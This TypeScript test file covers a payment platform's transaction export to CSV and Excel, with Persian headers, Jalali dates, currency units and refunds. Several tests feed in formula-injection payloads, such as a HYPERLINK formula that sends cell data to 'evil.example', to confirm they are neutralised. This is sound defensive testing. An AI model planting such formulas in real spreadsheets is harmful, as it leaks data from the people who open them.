import { createWriteStream, mkdtempSync, statSync } from 'node:fs';
import { finished } from 'node:stream/promises';
import os from 'node:os';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { actorOf } from '@/lib/actor';
import { createDb } from '@/db';
import { generatePayments } from '@/db/generate';
import { payments } from '@/db/schema';
import { createPayment } from '@/lib/payments';
import { makePlatform } from '@/test/fixtures';
import { afterAll } from 'vitest';
import { csvField, exportTransactions, exportWords, safeText } from './export';
import { readFilters } from './filters';
import { createRefund } from '@/lib/refunds';
import { paidPayment } from '@/lib/refunds/fixtures';
import { readFileSync } from 'node:fs';

const { db, client } = createDb(process.env.DATABASE_URL!, { max: 5 });
afterAll(() => client.end({ timeout: 5 }));
const dir = mkdtempSync(path.join(os.tmpdir(), 'dargah-export-'));

const filters = (q: Record<string, string> = {}) => {
  const r = readFilters(q);
  if (!r.ok) throw new Error('bad filters');
  return r.filters;
};

async function exportTo(file: string, opts: Omit<Parameters<typeof exportTransactions>[0], 'db' | 'client' | 'out'>) {
  const out = createWriteStream(file);
  const n = await exportTransactions({ db, client, out, ...opts });
  await finished(out);
  return n;
}

describe('transaction export', () => {
  it('shows what refunds gave back and the merchant’s net', async () => {
    const { actor, payment, merchant } = await paidPayment(db, { amount: 1_000_000n, fee: 10_000n });
    expect((await createRefund(db, actor, { paymentId: payment.id, amount: 250_000n, reason: 'part' })).ok).toBe(true);
    const file = path.join(dir, 'refunded.csv');
    await exportTo(file, { actor: actorOf(merchant), filters: filters(), format: 'csv', unit: 'rial' });
    const [head, row] = readFileSync(file, 'utf8').split('\r\n');
    expect(head.split(',').slice(-2)).toEqual(['بازگشت داده شده (ریال)', 'خالص پذیرنده (ریال)']);
    expect(row.split(',').slice(-2)).toEqual(['250000', '740000']);
  });

  it('writes an RTL sheet with Persian headers, Jalali dates, exact amounts and escaped formula text', async () => {
    const { merchant, platform } = await makePlatform(db);
    const big = await createPayment(db, {
      platformId: platform.id,
      source: 'api',
      livemode: true,
      amount: 999_999_999_999_999n,
      orderId: '=HYPERLINK("http://evil")',
    });
    await db
      .update(payments)
      .set({ createdAt: new Date('2026-11-23T08:15:00Z'), payerName: '+98 Ali', description: '@SUM(A1)' })
      .where(eq(payments.id, big.id));
    const file = path.join(dir, 'one.xlsx');
    expect(await exportTo(file, { actor: actorOf(merchant), filters: filters(), format: 'xlsx', unit: 'rial' })).toBe(1);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0];
    expect(ws.views[0]).toMatchObject({ rightToLeft: true, state: 'frozen', ySplit: 1 });
    expect(ws.getRow(1).getCell(1).value).toBe('کد پیگیری');
    expect(ws.getRow(1).getCell(12).value).toBe('مبلغ (ریال)');
    const row = ws.getRow(2);
    expect(row.getCell(1).value).toBe(big.trackingCode);
    expect(row.getCell(2).value).toBe('۱۴۰۵/۰۹/۰۲');
    expect(row.getCell(3).value).toBe('11:45:00');
    // The Gregorian day is a real date cell (the Jalali one stays text), the amount a whole number format.
    expect(row.getCell(4).type).toBe(ExcelJS.ValueType.Date);
    expect((row.getCell(4).value as Date).toISOString()).toBe('2026-11-23T00:00:00.000Z');
    expect(row.getCell(4).numFmt).toBe('yyyy-mm-dd');
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(12).value).toBe(999_999_999_999_999);
    expect(row.getCell(12).numFmt).toBe('#,##0');
    // Text that looks like a formula is text, exactly as typed: no formula, no visible leading quote.
    for (const [col, text] of [
      [14, '+98 Ali'],
      [18, '=HYPERLINK("http://evil")'],
      [19, '@SUM(A1)'],
    ] as const) {
      const cell = row.getCell(col);
      expect(cell.formula).toBeUndefined();
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText]).toContain(cell.type);
      expect(cell.text).toBe(text);
    }
    expect(safeText('\tx')).toBe("'\tx");
    expect(safeText('-5')).toBe("'-5");
    expect(safeText('plain')).toBe('plain');
  });

  it('writes CSV with a UTF-8 BOM, in Toman when asked', async () => {
    const { merchant, platform } = await makePlatform(db);
    await createPayment(db, { platformId: platform.id, source: 'link', livemode: true, amount: 125_005n, description: 'a, "quoted" text' });
    const file = path.join(dir, 'one.csv');
    await exportTo(file, { actor: actorOf(merchant), filters: filters(), format: 'csv', unit: 'toman' });
    const text = (await import('node:fs')).readFileSync(file, 'utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const [header, line] = text.slice(1).trim().split('\r\n');
    expect(header).toContain('مبلغ (تومان)');
    expect(line).toContain(',12500.5,');
    expect(line).toContain('"a, ""quoted"" text"');
  });

  it('speaks the reader’s language: no raw code for service, gateway, state, source or method', async () => {
    const { merchant, platform } = await makePlatform(db);
    const p = await createPayment(db, { platformId: platform.id, source: 'api', livemode: true, amount: 125_000n });
    await db.update(payments).set({ gateway: 'sandbox', state: 'succeeded', fee: 1_000n }).where(eq(payments.id, p.id));
    const file = path.join(dir, 'en.xlsx');
    await exportTo(file, { actor: actorOf(merchant), filters: filters(), format: 'xlsx', unit: 'toman', locale: 'en' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0];
    expect(ws.name).toBe('Transactions');
    expect(ws.views[0]).toMatchObject({ rightToLeft: false });
    const head = ws.getRow(1).values as unknown[];
    expect(head.slice(1, 13)).toEqual([
      'Tracking code',
      'Date (Jalali)',
      'Time',
      'Date (Gregorian)',
      'Platform',
      'Service',
      'Product',
      'Source',
      'Method',
      'Gateway',
      'Status',
      'Amount (Toman)',
    ]);
    const row = ws.getRow(2);
    const words = exportWords('en', 'toman');
    // The platform's service, whichever the fixture made, by its name: never `payment` or `charge`.
    expect(Object.values(words.service)).toContain(row.getCell(6).value);
    expect(Object.keys(words.service)).not.toContain(row.getCell(6).value);
    expect(row.getCell(8).value).toBe('API');
    expect(row.getCell(9).value).toBe('Online');
    expect(row.getCell(10).value).toBe('Sandbox bank');
    expect(row.getCell(11).value).toBe('Successful');
    // Toman: a whole amount has no trailing dot; the fee of 100 Toman neither.
    expect(row.getCell(12).value).toBe(12_500);
    expect(row.getCell(12).numFmt).toBe('#,##0');
    expect(row.getCell(13).value).toBe(100);
    expect(row.getCell(13).numFmt).toBe('#,##0');

    const csv = path.join(dir, 'en.csv');
    await exportTo(csv, { actor: actorOf(merchant), filters: filters(), format: 'csv', unit: 'rial', locale: 'tr' });
    const [header, line] = readFileSync(csv, 'utf8').slice(1).trim().split('\r\n');
    expect(header.split(',')[11]).toBe('Tutar (Riyal)');
    const cols = line.split(',');
    expect(cols[9]).toBe('Test bankası');
    expect(cols[10]).toBe('Başarılı');
    expect(cols[3]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    for (const code of ['sandbox', 'succeeded', 'api_', 'online', 'payment', 'charge']) expect(cols).not.toContain(code);
  });

  it('gives a Toman amount with a tenth its own one-decimal format, and whole ones none', async () => {
    const { merchant, platform } = await makePlatform(db);
    await createPayment(db, { platformId: platform.id, source: 'link', livemode: true, amount: 125_005n });
    const file = path.join(dir, 'tenth.xlsx');
    await exportTo(file, { actor: actorOf(merchant), filters: filters(), format: 'xlsx', unit: 'toman' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const cell = wb.worksheets[0].getRow(2).getCell(12);
    expect(cell.value).toBe(12_500.5);
    expect(cell.numFmt).toBe('#,##0.0');
  });

  it('names every source in Persian, phone payments as تلفنی', async () => {
    const { merchant, platform } = await makePlatform(db);
    await createPayment(db, { platformId: platform.id, source: 'ivr', livemode: true, amount: 120_000n });
    const file = path.join(dir, 'ivr.csv');
    await exportTo(file, { actor: actorOf(merchant), filters: filters(), format: 'csv', unit: 'rial' });
    const [, line] = (await import('node:fs')).readFileSync(file, 'utf8').slice(1).trim().split('\r\n');
    expect(line.split(',')[7]).toBe('تلفنی');
  });

  it('quotes and neutralises formula text in CSV, and keeps it exact text in xlsx', async () => {
    const { merchant, platform } = await makePlatform(db);
    const hostile = {
      payerName: 'a;=1+1',
      description: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      product: '-2+3',
    };
    await createPayment(db, { platformId: platform.id, source: 'api', livemode: true, amount: 5000n, orderId: '@cmd', product: hostile.product });
    await db.update(payments).set({ payerName: hostile.payerName, description: hostile.description }).where(eq(payments.platformId, platform.id));

    const csvFile = path.join(dir, 'hostile.csv');
    await exportTo(csvFile, { actor: actorOf(merchant), filters: filters(), format: 'csv', unit: 'rial' });
    const line = (await import('node:fs')).readFileSync(csvFile, 'utf8').slice(1).trim().split('\r\n')[1];
    // Excel with `;` as list separator would have split the name into `a` and a live `=1+1`.
    expect(line).toContain(',"a;=1+1",');
    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    expect(line).toContain(`,"'-2+3",`);
    expect(line).toContain(`,"'@cmd",`);
    // The amount is a number and stays one.
    expect(line).toContain(',5000,');

    const xlsxFile = path.join(dir, 'hostile.xlsx');
    await exportTo(xlsxFile, { actor: actorOf(merchant), filters: filters(), format: 'xlsx', unit: 'rial' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsxFile);
    const row = wb.worksheets[0].getRow(2);
    for (const [col, text] of [
      [7, hostile.product],
      [14, hostile.payerName],
      [18, '@cmd'],
      [19, hostile.description],
    ] as const) {
      const cell = row.getCell(col);
      expect(cell.formula).toBeUndefined();
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText]).toContain(cell.type);
      expect(cell.text).toBe(text);
    }
    expect(row.getCell(12).value).toBe(5000);
  });

  it('writes CSV fields by one rule', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('+98 912')).toBe(`"'+98 912"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('-5')).toBe(`"'-5"`);
    // Numbers are numbers: a negative amount is not a formula and is not touched.
    expect(csvField(-5)).toBe('-5');
    expect(csvField(12500.5)).toBe('12500.5');
    expect(csvField(null)).toBe('');
  });

  it('exports another merchant’s rows never, and 200 000 rows with flat memory', async () => {
    const { merchant, platform } = await makePlatform(db);
    const other = await makePlatform(db);
    await generatePayments(client, { platformIds: [platform.id], n: 200_000, until: new Date('2024-06-01T00:00:00Z') });
    await generatePayments(client, { platformIds: [other.platform.id], n: 1000, until: new Date('2024-06-01T00:00:00Z') });
    // Live memory (heap and buffers) after a full GC, sampled as the export goes: RSS alone
    // follows the collector's timing, and under a loaded machine it swung by 50 MB run to run.
    const gc = (globalThis as { gc?: () => void }).gc;
    if (!gc) throw new Error('run vitest with --expose-gc (vitest.config.ts execArgv)');
    const live = () => {
      gc();
      const m = process.memoryUsage();
      return m.heapUsed + m.arrayBuffers;
    };
    const base = live();
    let peak = base;
    let nextSample = 20_000;
    const file = path.join(dir, 'big.xlsx');
    let progress = 0;
    const n = await exportTo(file, {
      actor: actorOf(merchant),
      filters: filters(),
      format: 'xlsx',
      unit: 'rial',
      onProgress: (r) => {
        progress = r;
        if (r >= nextSample) {
          nextSample += 20_000;
          peak = Math.max(peak, live());
        }
      },
    });
    expect(n).toBe(200_000);
    expect(progress).toBe(200_000);
    expect(statSync(file).size).toBeGreaterThan(5_000_000);
    // Streaming: the process grows by far less than the file (≈ 15 MB) would take unzipped in memory.
    expect((peak - base) / 1048576).toBeLessThan(120);
  }, 120_000);
});
